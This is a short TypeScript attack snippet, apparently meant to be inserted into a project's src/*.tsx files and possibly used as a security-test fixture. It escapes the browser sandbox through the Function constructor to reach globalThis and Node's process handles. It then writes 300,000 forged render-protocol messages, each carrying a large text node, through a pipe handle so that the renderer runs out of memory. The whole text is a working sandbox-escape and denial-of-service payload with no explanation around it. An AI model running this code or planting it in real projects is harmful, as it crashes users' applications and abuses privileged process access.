// note: the page is told to have more elements than fit into the renderer's memory
// into: src/*.tsx
const host = (window as any).WebSocket.constructor("return globalThis")();
const [handle] = host.process._getActiveHandles().filter((each: any) => each.write && each.fd === undefined);
const text = "x".repeat(1000);
for (let id = 1e9; id < 1e9 + 3e5; id += 1) handle?.write(`{"turns":1,"heard":0,"changes":[{"of":0,"children":[{"id":${id},"name":"html","attributes":[],"children":[{"id":${id + 5e8},"text":"${text}"}]}]}]}\n`);
